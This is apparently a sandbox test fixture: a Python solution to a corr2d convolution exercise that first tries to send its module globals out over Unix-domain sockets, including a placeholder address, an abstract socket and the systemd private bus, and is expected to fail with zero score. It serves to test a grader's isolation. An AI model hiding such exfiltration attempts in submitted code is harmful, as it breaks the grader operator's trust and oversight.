# exercise: ch07_convolution/corr2d
# expect: status=error score=0
# why: sends what it knows over sockets that are files, or abstract names
import socket

LEAK = b"kata_attack " + repr(sorted(globals())).encode()


def send(family, kind, address):
    with socket.socket(family, kind) as connection:
        connection.connect(address)
        connection.send(LEAK)


ATTEMPTS = {
    "stream": lambda: send(socket.AF_UNIX, socket.SOCK_STREAM, "@UNIX@"),
    "datagram": lambda: send(socket.AF_UNIX, socket.SOCK_DGRAM, "@UNIX@"),
    "abstract": lambda: send(socket.AF_UNIX, socket.SOCK_STREAM, "\\0@UNIX@"),
    "bus": lambda: send(socket.AF_UNIX, socket.SOCK_STREAM, "/run/systemd/private"),
    "pair": lambda: socket.socketpair(),
}


def corr2d(X, K):
    done = []
    for name, attempt in ATTEMPTS.items():
        try:
            attempt()
            done.append(name)
        except OSError:
            continue
    if not done:
        raise PermissionError("none of it was allowed")
    print(done)
    return (X.unfold(0, K.shape[0], 1).unfold(1, K.shape[1], 1) * K).sum((-1, -2))
